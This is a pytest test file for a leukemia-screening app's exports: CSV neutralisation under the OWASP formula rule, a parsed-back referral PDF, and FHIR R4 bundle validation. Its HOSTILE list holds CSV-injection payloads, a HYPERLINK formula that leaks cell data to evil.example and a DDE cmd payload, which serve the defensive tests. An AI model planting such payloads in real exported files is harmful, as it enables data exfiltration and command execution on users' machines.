"""Exports: formula-safe CSV (OWASP rule), the referral PDF (parsed back), FHIR R4 (validated round trip),
never overwriting an earlier export."""
from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
import zlib

import pytest

from fixtures_records import fill_sample, screener, shots  # noqa: F401  (fixtures)
from leukedge.edge_app.exports import neutralise, to_csv, write_new
from leukedge.edge_app.exports.fhir import export_sample_fhir, parse_bundle
from leukedge.edge_app.exports.pdf_report import export_sample_pdf
from leukedge.edge_app.exports.sample_csv import COLUMNS, export_samples_csv
from leukedge.edge_app.records import RecordStore

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', "=cmd|' /C calc'!A0", "+1", "-1",
           "@SUM(A1:A9)", "\tTAB", "\rCR"]


@pytest.fixture()
def store(tmp_path):
    s = RecordStore(tmp_path / "db" / "h.sqlite3")
    yield s
    s.close()


# ----- CSV --------------------------------------------------------------------------------
def test_neutralise_follows_the_owasp_rule():
    for v in HOSTILE:
        assert neutralise(v) == "'" + v
    assert neutralise("P-001") == "P-001" and neutralise("a=b") == "a=b" and neutralise(0.5) == 0.5
    assert neutralise(-1) == -1 and neutralise(None) == "" and neutralise(True) is True


def test_samples_csv_neutralises_hostile_sample_ids(store, shots, tmp_path):
    recs = [fill_sample(store, shots, sid, ["negative", "ood"]) for sid in HOSTILE + ["PLAIN-1"]]
    path = export_samples_csv(recs, tmp_path / "out")
    rows = list(csv.DictReader(io.StringIO(path.read_text(), newline="")))
    assert list(rows[0]) == list(COLUMNS) and len(rows) == 2 * len(recs)
    ids = [r["sample_id"] for r in rows]
    for v in HOSTILE:
        stored = " ".join(v.split())  # IDs are stored on one line, trimmed
        assert ids.count("'" + stored if stored.startswith(("=", "+", "-", "@")) else stored) == 2
    assert ids.count("PLAIN-1") == 2
    for r in rows:  # nothing a spreadsheet would evaluate, in any column
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values())
    ood = [r for r in rows if r["field_status"] == "ood"]
    assert ood and all(r["probability"] == "" for r in ood)  # a hidden score is not exported
    neg = [r for r in rows if r["field_status"] == "negative"]
    assert all(0 <= float(r["probability"]) < 0.5 for r in neg)


def test_legacy_history_csv_is_neutralised_too(tmp_path):
    from leukedge.edge_app.history import History

    h = History(tmp_path / "h.sqlite3")
    for v in HOSTILE:
        h.add(sample_id=v, probability=0.2, decision="negative", model_name="=evil()")
    h.add(sample_id="X", probability=1.0, decision="out-of-distribution", model_name="m")
    rows = list(csv.DictReader(io.StringIO(h.csv_text(), newline="")))
    assert [r["sample_id"] for r in rows[:len(HOSTILE)]] == ["'" + v for v in HOSTILE]
    assert all(r["model_name"] == "'=evil()" for r in rows[:len(HOSTILE)])
    assert rows[-1]["probability"] == "" and rows[0]["probability"] == "0.2"
    a, b = h.export_new(tmp_path / "exp"), h.export_new(tmp_path / "exp")
    assert a != b and a.read_text() == b.read_text()  # a second export never overwrites the first


def test_to_csv_and_write_new_never_overwrite(tmp_path):
    text = to_csv(["a", "b"], [["=1", 2]])
    assert text == "a,b\r\n'=1,2\r\n"
    paths = [write_new(tmp_path, "x.csv", f"{i}".encode()) for i in range(3)]
    assert [p.name for p in paths] == ["x.csv", "x-2.csv", "x-3.csv"]
    assert [p.read_text() for p in paths] == ["0", "1", "2"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x-2.csv", "x-3.csv", "x.csv"]  # no temp file left


# ----- PDF --------------------------------------------------------------------------------
def parse_pdf(data: bytes) -> dict:
    """A minimal PDF reader: every xref offset must point at its object; returns objects and text."""
    assert data.startswith(b"%PDF-") and data.rstrip().endswith(b"%%EOF")
    start = int(re.search(rb"startxref\s+(\d+)\s+%%EOF\s*$", data).group(1))
    assert data[start:start + 4] == b"xref"
    head = re.match(rb"xref\s+0\s+(\d+)\s+", data[start:])
    n = int(head.group(1))
    table = data[start + head.end():].split(b"trailer")[0].split()
    entries = [(int(table[i]), table[i + 2]) for i in range(0, len(table), 3)]
    assert len(entries) == n
    objects, texts, images = {}, [], 0
    for num, (off, kind) in enumerate(entries):
        if kind != b"n":
            continue
        m = re.match(rb"(\d+) 0 obj", data[off:off + 20])
        assert m and int(m.group(1)) == num, f"xref entry {num} does not point at its object"
        end = data.index(b"endobj", off)
        body = data[off:end]
        objects[num] = body
        if b"/Subtype /Image" in body:
            images += 1
        sm = re.search(rb"stream\r?\n", body)
        if sm and b"/FlateDecode" in body[:sm.start()] and b"/Subtype /Image" not in body:
            raw = body[sm.end():body.rindex(b"endstream")]
            texts.append(zlib.decompress(raw))
    pages = sum(1 for b in objects.values() if re.search(rb"/Type /Page\b", b))
    strings = b" ".join(re.findall(rb"\((.*?)(?<!\\)\)\s*Tj", b"".join(texts), re.S))
    return {"pages": pages, "images": images, "text": strings.decode("latin-1")}


def _flat(text: str) -> str:
    return " ".join(text.replace("\\(", "(").replace("\\)", ")").split())


def test_referral_pdf_has_the_sample_fields_verdict_and_model(store, shots, screener, tmp_path):
    rec = fill_sample(store, shots, "P-0042", ["negative", "positive", "ood", "unreadable"], screener.release)
    path = export_sample_pdf(rec, tmp_path / "out", screener.release.card)
    assert path.name.startswith("leukedge-referral-P-0042-") and path.suffix == ".pdf"
    pdf = parse_pdf(path.read_bytes())
    text = _flat(pdf["text"])
    assert pdf["pages"] >= 1
    assert pdf["images"] >= 1 + 2 + 1 + 1  # legend + negative (image, heatmap) + positive... + ood image
    assert "sample P-0042" in text and "Refer: signs of leukemia in this sample" in text
    assert "What to do next" in text and "haematologist" in text
    assert "efficientnet-lite0-binary" in text and "version 0.1.0" in text and "signature:" in text
    assert rec.created.display() in text and "Field 4" in text
    assert f"{shots['ood'][1].probability:.2f}" not in text.split("Field 3")[1].split("Field 4")[0]
    assert "no heatmap: no score" in text and "red" in text  # legend says what the colours mean
    assert str(tmp_path) not in text and "not-an-image.jpg" in text  # no machine paths in the report


def test_negative_pdf_says_it_does_not_rule_leukemia_out(store, shots, tmp_path):
    rec = fill_sample(store, shots, "N-1", ["negative", "negative2"])
    text = _flat(parse_pdf(export_sample_pdf(rec, tmp_path, {}).read_bytes())["text"])
    assert "No signs of leukemia found" in text and "does not rule leukemia out" in text


# ----- FHIR -------------------------------------------------------------------------------
def test_fhir_bundle_round_trips_through_the_r4_models(store, shots, screener, tmp_path):
    rec = fill_sample(store, shots, "F-9", ["negative", "ood", "unreadable", "positive"], screener.release)
    store.void_field(rec.fields[3].uid, "wrong slide")
    rec = store.sample(rec.uid)
    path = export_sample_fhir(rec, tmp_path / "fhir", screener.release.card)
    bundle = parse_bundle(path.read_bytes())  # validated again on the way in
    kinds = [e.resource.get_resource_type() for e in bundle.entry]
    assert kinds[0] == "DiagnosticReport" and kinds.count("Observation") == 4
    assert kinds.count("Media") == 2 + 1 + 2  # negative image+heatmap, ood image, positive image+heatmap
    report = bundle.entry[0].resource
    assert report.identifier[0].value == "F-9" and report.status == "final"
    assert report.conclusionCode[0].coding[0].code == "cannot_assess"   # the positive field was voided
    assert "not a negative result" in report.conclusion
    assert report.effectiveDateTime.isoformat().startswith(rec.created.local.strftime("%Y-%m-%dT%H:%M"))
    urls = {e.fullUrl: e.resource for e in bundle.entry}
    assert [r.reference for r in report.result] == [e.fullUrl for e in bundle.entry
                                                    if e.resource.get_resource_type() == "Observation"]
    obs = [urls[r.reference] for r in report.result]
    assert [o.valueCodeableConcept.coding[0].code for o in obs] == ["negative", "ood", "unreadable", "positive"]
    assert float(obs[0].component[0].valueQuantity.value) == pytest.approx(shots["negative"][1].probability, abs=1e-6)
    for o, reason in ((obs[1], "not-performed"), (obs[2], "error")):  # hidden / no score: never a number
        assert o.component[0].valueQuantity is None
        assert o.component[0].dataAbsentReason.coding[0].code == reason
    assert obs[3].status == "entered-in-error"
    media = urls[obs[0].derivedFrom[0].reference]
    data = media.content.data  # the model decodes base64Binary
    assert base64.b64decode(json.loads(path.read_text())["entry"][1]["resource"]["content"]["data"]) == data
    assert hashlib.sha256(data).hexdigest() == rec.fields[0].image_sha256 and media.content.contentType == "image/jpeg"
    raw = json.loads(path.read_text())
    assert raw["resourceType"] == "Bundle" and raw["type"] == "collection"
    report0 = raw["entry"][0]["resource"]
    for broken in (dict(report0, status="maybe"), {k: v for k, v in report0.items() if k != "code"},
                   dict(report0, effectiveDateTime="yesterday")):
        with pytest.raises(ValueError):  # pydantic's ValidationError is a ValueError
            parse_bundle(json.dumps(dict(raw, entry=[dict(raw["entry"][0], resource=broken)])))
